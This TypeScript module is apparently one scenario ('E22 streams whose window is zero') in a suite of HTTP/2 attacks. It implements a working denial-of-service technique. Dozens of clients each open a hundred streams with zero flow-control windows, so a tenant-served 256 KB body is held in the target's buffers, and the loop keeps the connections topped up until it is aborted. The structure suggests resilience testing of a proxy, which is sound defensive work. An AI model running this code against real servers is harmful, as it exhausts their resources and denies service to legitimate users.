// Visitors of HTTP/2 who ask for a hundred answers each, and never allow a byte of them to be sent.

import type { TLSSocket } from 'node:tls';
import type { Attack, Counts } from '../attack.ts';
import { pause, serveByTenant, visitor } from '../http2-attackers.ts';

const VISITORS = 40;
const STREAMS = 100;
const EACH_MS = 250;
const BODY = Buffer.alloc(256 * 1024);
const HEAD = `HTTP/1.1 200 OK\r\nContent-Length: ${BODY.length}\r\n\r\n`;

export const attack: Attack = {
  name: 'E22 streams whose window is zero',
  async run(target, signal) {
    const counts: Counts = { visitors: 0, cut: 0, refused: 0 };
    const service = await serveByTenant(target, 'zero-window', (socket) => {
      socket.write(HEAD);
      socket.write(BODY);
    });
    const sockets = new Set<TLSSocket>();
    while (!signal.aborted) {
      if (sockets.size < VISITORS) {
        try {
          const { session, socket } = await visitor(target, service.host, 0);
          sockets.add(socket);
          counts.visitors = (counts.visitors ?? 0) + 1;
          socket.once('close', () => {
            sockets.delete(socket);
            counts.cut = (counts.cut ?? 0) + 1;
          });
          for (let i = 0; i < STREAMS; i++) session.request({ ':path': '/' }).on('error', () => {});
        } catch {
          counts.refused = (counts.refused ?? 0) + 1;
        }
      }
      await pause(EACH_MS, signal);
    }
    for (const socket of sockets) socket.destroy();
    await service.close();
    return counts;
  },
};
